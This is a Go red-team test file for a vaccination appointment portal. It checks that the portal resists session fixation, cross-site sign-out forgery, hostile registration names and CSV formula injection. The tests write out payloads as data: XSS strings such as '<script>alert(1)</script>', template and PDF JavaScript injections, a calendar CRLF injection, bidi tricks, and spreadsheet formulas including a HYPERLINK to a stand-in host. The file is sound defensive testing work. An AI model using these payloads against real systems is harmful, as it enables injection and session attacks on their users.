package redteam

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"tikakosh/internal/civil"
	"tikakosh/internal/id"
	"tikakosh/internal/statistics"
	"tikakosh/test/harness"
)

const (
	sessionCookie = "__Host-session"
	seatCookie    = "__Host-seat"
	householdPath = "/v2/appointment/beneficiaries"
)

// TestR73PlantedSession: the attacker signs in and puts both of their own cookies into the
// victim's browser. The victim signs in, and must be in their own account and in nobody
// else's, under a bearer and a seat that nobody knew before.
func TestR73PlantedSession(t *testing.T) {
	run(t, "R73", trial{try: func(t *testing.T, s *harness.Server) (bool, string) {
		attacker := s.Portal()
		attacker.SignIn(s.Mobile())
		victim, mobile := s.Portal(), s.Mobile()
		for _, name := range []string{sessionCookie, seatCookie} {
			if attacker.Cookie(name) == "" {
				t.Fatalf("the attacker has no %s", name)
			}
		}
		victim.Get("/sign-in") // asks for the number
		victim.SetCookie(sessionCookie, attacker.Cookie(sessionCookie))
		victim.SetCookie(seatCookie, attacker.Cookie(seatCookie))
		victim.SignInHere(mobile)
		var stays []string
		for _, name := range []string{sessionCookie, seatCookie} {
			if victim.Cookie(name) == attacker.Cookie(name) {
				stays = append(stays, name)
			}
		}
		// What the victim has signed in with does not open the attacker's household.
		if a := s.Client().With(victim.Cookie(sessionCookie)).Must("GET", householdPath, nil); !a.OK() {
			t.Fatalf("the victim is not signed in: %s", a.Text())
		}
		// Signed out, it opens nothing.
		victim.Get("/account")
		left := victim.Cookie(sessionCookie)
		victim.Submit("/sign-out")
		if a := s.Client().With(left).Must("GET", householdPath, nil); a.Status != http.StatusUnauthorized {
			stays = append(stays, "the bearer after its sign-out")
		}
		return len(stays) > 0, fmt.Sprintf("kept: %q", stays)
	}})
}

// TestR74OtherSitesForms: whatever another site can make a browser send, with the person's
// cookies on it (as a neighbouring host or an old browser would have them), does nothing: the
// session lives on.
func TestR74OtherSitesForms(t *testing.T) {
	run(t, "R74", trial{name: "token", off: []string{"form-token"}, try: silentForms}, trial{name: "origin", off: []string{"cross-site"}, try: func(t *testing.T, s *harness.Server) (bool, string) {
		p := s.Portal()
		p.SignIn(s.Mobile())
		bearer, tried := p.Cookie(sessionCookie), 0
		alive := func() bool { return s.Client().With(bearer).Must("GET", householdPath, nil).OK() }
		if !alive() {
			t.Fatal("nobody is signed in")
		}
		sent := func(method, path, kind string, header ...string) int {
			t.Helper()
			tried++
			r, err := http.NewRequestWithContext(t.Context(), method, s.Root+path, strings.NewReader(url.Values{"lang": {"none"}}.Encode()))
			if err != nil {
				t.Fatal(err)
			}
			r.Header.Set("Content-Type", kind)
			r.Header.Set("Cookie", sessionCookie+"="+bearer+"; "+seatCookie+"="+p.Cookie(seatCookie))
			for i := 0; i+1 < len(header); i += 2 {
				r.Header.Set(header[i], header[i+1])
			}
			a, err := http.DefaultTransport.RoundTrip(r)
			if err != nil {
				t.Fatal(err)
			}
			_ = a.Body.Close()
			return a.StatusCode
		}
		const form = "application/x-www-form-urlencoded"
		for _, x := range [][]string{
			{"POST", "/sign-out", form, "Sec-Fetch-Site", "cross-site"},
			{"POST", "/sign-out", form, "Sec-Fetch-Site", "same-site"}, // a neighbouring host
			{"POST", "/sign-out", form, "Origin", "https://elsewhere.example"},
			{"POST", "/sign-out", form, "Origin", "null"},
			{"POST", "/sign-out", form, "Origin", strings.Replace(s.Root, "http://", "https://", 1) + ".example"},
			{"POST", "/sign-out", form}, // says nothing of where it comes from
			{"POST", "/sign-out", "text/plain", "Sec-Fetch-Site", "cross-site"},
			{"POST", "/sign-out", "multipart/form-data; boundary=x", "Sec-Fetch-Site", "cross-site"},
			{"GET", "/sign-out", form, "Sec-Fetch-Site", "cross-site"},
			{"GET", "/sign-out?_method=POST", form, "X-HTTP-Method-Override", "POST", "Sec-Fetch-Site", "cross-site"},
			{"HEAD", "/sign-out", form, "Sec-Fetch-Site", "cross-site"},
			{"PUT", "/sign-out", form, "Sec-Fetch-Site", "cross-site"},
		} {
			status := sent(x[0], x[1], x[2], x[3:]...)
			if !alive() {
				return true, fmt.Sprintf("%q ended the session (%d)", x, status)
			}
		}
		// The person themselves can.
		if p.Post("/sign-out", url.Values{}); alive() {
			t.Fatal("nobody can sign out")
		}
		return false, fmt.Sprintf("%d forms of others did nothing", tried)
	}})
}

// silentForms: the person has a browser that says nothing of where a form comes from. A form of
// another site does nothing without the token of the person's own page, and with that of a page
// that the attacker has; nor does it sign the person in as the attacker. The person's own forms do.
func silentForms(t *testing.T, s *harness.Server) (bool, string) {
	attacker, victim := s.Portal(), s.Portal()
	attacker.Silent, victim.Silent = true, true
	attacker.SignIn(s.Mobile())
	victim.SignIn(s.Mobile())
	bearer := victim.Cookie(sessionCookie)
	alive := func() bool { return s.Client().With(bearer).Must("GET", householdPath, nil).OK() }
	if attacker.Get("/account"); !alive() || attacker.Cookie(sessionCookie) == "" {
		t.Fatal("nobody is signed in")
	}
	theirs := attacker.Last.Hidden("/sign-out").Get("own")
	if theirs == "" {
		t.Fatal("the pages of such a browser have no token")
	}
	for name, token := range map[string]string{"no token": "", "the attacker's token": theirs, "half a token": theirs[:20]} {
		if a := victim.Post("/sign-out", url.Values{"own": {token}}); !alive() {
			return true, fmt.Sprintf("%s: the session was ended (%d)", name, a.Status)
		}
	}
	// The attacker's own code, in the victim's browser.
	mobile := s.Mobile()
	have := len(s.To(mobile))
	fresh := s.Portal()
	fresh.Silent = true
	fresh.Get("/sign-in")
	fresh.Submit("/sign-in", "mobile", mobile)
	fresh.Get("/sign-in/code")
	form := fresh.Last.Hidden("/sign-in/code")
	form.Set("code", s.CodeAfter(mobile, have))
	if victim.Post("/sign-in/code", form); victim.Cookie(sessionCookie) != bearer {
		return true, "the person was signed in as the attacker"
	}
	victim.Get("/account")
	if victim.Submit("/sign-out"); alive() {
		t.Fatal("nobody can sign out")
	}
	return false, "5 forms of others did nothing in a browser that says nothing of their origin"
}

// hostileNames are what a name could do to a page, a PDF, a calendar or a table.
func hostileNames() []string {
	return []string{
		"<script>alert(1)</script>", "Asha\"><svg onload=alert(1)>", "<style>*{display:none}</style>", "{{.Mobile}} Asha", "${7*7} Asha", "Asha <%= 1 %>",
		") Tj ET Q /JS (app.alert(1))", "Asha \u202etset", "Asha \u2066Test", "\u200fAsha", "Asha\r\nATTENDEE:mailto:x@example.com", "=1+1", "@SUM(A1)", "＝HYPERLINK", "Asha\x00", "Asha\u200b Test",
	}
}

// TestR81HostileNames: none of them is taken as a person's name, a second-script name or a
// guardian; what is shown of the household is text whatever was taken.
func TestR81HostileNames(t *testing.T) {
	run(t, "R81", trial{try: func(t *testing.T, s *harness.Server) (bool, string) {
		var taken []string
		for i, name := range hostileNames() {
			c, mobile := s.Holder()
			body := harness.Person{Name: "Asha Test", ID: s.PAN()}.Form()
			body["name"] = name
			if i%3 == 1 {
				body["name"], body["name_local"] = "Asha Test", name
			}
			a := c.Must("POST", "/v2/registration/beneficiary/new", body)
			if a.Status >= 500 {
				t.Fatalf("%q: %s", name, a.Text())
			}
			if a.OK() {
				taken = append(taken, name)
			}
			// Where it was taken, a page still shows it as text.
			p := s.Portal()
			p.SignIn(mobile)
			page := string(p.Get("/account").Body)
			for _, no := range []string{"<script>alert", "<svg onload", "<style>"} {
				if strings.Contains(page, no) {
					t.Errorf("%q is no text on the page", name)
				}
			}
		}
		return len(taken) > 0, fmt.Sprintf("%d of %d names taken", len(taken), len(hostileNames()))
	}})
}

// TestR82Formulas: formulas stand in the registry's published figures, where a database
// administrator put them; in the file that people download they are texts.
func TestR82Formulas(t *testing.T) {
	run(t, "R82", trial{own: true, try: func(t *testing.T, s *harness.Server) (bool, string) {
		formulas := []string{`=HYPERLINK("https://elsewhere.example/"&A2)`, "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)", `",=1+1`, "x\n=1+1"}
		day := civil.Of(s.Now().In(statistics.India())).AddDays(-1)
		p := statistics.Published{Day: day}
		for _, f := range formulas {
			p.Cells = append(p.Cells, statistics.Cell{State: "Delhi", District: "New Delhi", Product: f, Dose: 1, Gender: 1, N: 100})
		}
		raw, err := json.Marshal(p)
		if err != nil {
			t.Fatal(err)
		}
		s.Exec(harness.RegistryDB, fmt.Sprintf(`INSERT INTO report (report, day, body, bucket) VALUES ('cells', '%s', '%s', %d) ON CONFLICT (report, day, bucket) DO UPDATE SET body = excluded.body`, day, strings.ReplaceAll(string(raw), "'", "''"), id.Bucket("cells")))
		later(s, 2*time.Minute) // the answer before may be kept
		a := s.Portal().Get("/numbers.csv?by=vaccine")
		lines, err := csv.NewReader(strings.NewReader(string(a.Body))).ReadAll()
		if err != nil || a.Status != http.StatusOK {
			t.Fatalf("%d %v %s", a.Status, err, a.Body)
		}
		if len(lines) != len(formulas)+1 {
			t.Fatalf("%d lines for %d formulas: %s", len(lines), len(formulas), a.Body)
		}
		var live []string
		for _, l := range lines {
			for _, cell := range l {
				if cell != "" && strings.ContainsRune("=+-@\t\r\n＝＋－＠", []rune(cell)[0]) {
					live = append(live, cell)
				}
			}
		}
		return len(live) > 0, fmt.Sprintf("%d cells of %d are formulas", len(live), len(formulas))
	}})
}
